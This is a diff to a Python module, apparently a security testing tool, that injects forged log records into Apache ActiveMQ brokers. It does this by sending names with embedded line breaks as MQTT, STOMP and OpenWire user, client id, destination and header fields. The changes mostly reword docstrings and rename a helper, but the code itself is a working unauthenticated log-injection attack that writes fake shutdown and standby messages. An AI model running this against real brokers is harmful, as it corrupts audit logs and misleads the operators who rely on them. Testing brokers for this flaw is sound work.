@@ -1,7 +1,7 @@
-"""A client that writes records of its choice into a broker's log, over MQTT, STOMP and OpenWire.
+"""A client that writes forged records into the log of a broker, over MQTT, STOMP and OpenWire.
 
-Wherever a broker logs what a client named, a name with line ends is tried: user, client id, destination,
-header, command. No login is needed for most of it.
+It sends a name with line ends in each field of a client that a broker logs: user, client id, destination, header,
+command. Most of these attempts do not require authentication.
 """
 
 from __future__ import annotations
@@ -21,35 +21,35 @@ FORGED = (
     "Database /forged/lock is locked by another server. This broker is now in slave mode waiting a lock to be acquired",
     "Apache ActiveMQ 9.9.9 (forged, ID:forged-1-2-0:1) is shutting down",
 )
-"""Messages that put a broker into other states: it starts, it stands by, it ends."""
+"""Messages that show another state of a broker: it starts, it is a standby, it stops."""
 LINE_ENDS = ("\n", "\r", "\r\n", "\u2028", "\x85", "\x0b")
 _TIMEOUT = 3.0
 
 
 def forged_name(message: str, end: str = "\n") -> str:
-    """A name that ends the record it stands in, and writes another, by the right class and thread."""
+    """Return a name that ends the current record and adds another one, with the class and thread of a real record."""
     now = time.strftime("%Y-%m-%d %H:%M:%S")
     record = f"{now},999 | INFO  | {message} | {logger_of(message)} | main"
     return f"x | org.apache.activemq.X | main{end}{record}{end}{now},999 | INFO  | x"
 
 
 def forge_over_mqtt(address: Address, names: Iterable[str]) -> None:
-    """Each name as the user, and as the client id."""
+    """Send each name as the user, and as the client id."""
     for name in names:
         for client, user in (("forger", name), (name, "forger")):
             fields = b"".join(map(encode_mqtt_text, (client, user, "wrong")))
-            _say(address, encode_mqtt_packet(0x10, encode_mqtt_text("MQTT") + b"\x04\xc2\0\x1e" + fields))
+            _send_parts(address, encode_mqtt_packet(0x10, encode_mqtt_text("MQTT") + b"\x04\xc2\0\x1e" + fields))
 
 
 def forge_over_stomp(address: Address, names: Iterable[str], login: str = "") -> None:
-    """Each name as the user; and with a ``login`` as client id, destination, header and command.
+    """Send each name as the user, and with a ``login`` as client id, destination, header and command.
 
-    5.5 logs a frame that it refuses header by header: there the record is one.
+    5.5 logs each header of a frame that it refuses in one record.
     """
     for name in names:
         text = name.replace("\\", "\\\\").replace("\r", "\\r").replace("\n", "\\n").replace(":", "\\c")
         opening = "CONNECT\naccept-version:1.1\nhost:x\n"
-        _say(address, f"{opening}login:{text}\npasscode:wrong\n\n\0".encode())
+        _send_parts(address, f"{opening}login:{text}\npasscode:wrong\n\n\0".encode())
         frames = (
             f"SUBSCRIBE\nid:{text}\ndestination:{text}\n\n\0",
             f"SEND\ndestination:/queue/{text}\ntransaction:{text}\n\nx\0",
@@ -57,22 +57,22 @@ def forge_over_stomp(address: Address, names: Iterable[str], login: str = "") ->
             f"{text}\n\n\0",
             f"SEND\ndestination:x\n{name.splitlines()[1]}\n\n\0",
         )
-        for number, frame in enumerate(frames):  # a broker may not have parted with the client before yet
-            _say(address, f"{opening}client-id:{text}{number}\n{login}\n\0".encode(), frame.encode())
+        for number, frame in enumerate(frames):  # the broker may not have removed the previous client yet
+            _send_parts(address, f"{opening}client-id:{text}{number}\n{login}\n\0".encode(), frame.encode())
 
 
 def forge_over_openwire(address: Address, names: Iterable[str]) -> None:
-    """Each name as client id and user of a connection; loosely encoded, as before any negotiation."""
+    """Send each name as client id and user of a connection, with the loose encoding that precedes the negotiation."""
     for name in names:
         data = name.encode()
         text = b"\1" + struct.pack(">H", len(data)) + data
         identity = b"\1\x78" + text  # ConnectionId
         info = b"\3" + struct.pack(">i", 1) + b"\1" + identity + text + text + text + b"\0" + b"\0" * 8
-        _say(address, struct.pack(">I", len(info)) + info)
+        _send_parts(address, struct.pack(">I", len(info)) + info)
 
 
-def _say(address: Address, *parts: bytes) -> None:
-    """Send, wait for an answer to each part, and then for the broker to hang up, so that it has read all of them."""
+def _send_parts(address: Address, *parts: bytes) -> None:
+    """Send the parts and wait for the response to each, then until the broker closes: it has read all parts."""
     with suppress(OSError), socket.create_connection(address, _TIMEOUT) as connection:
         connection.settimeout(_TIMEOUT / 15)
         for part in parts:
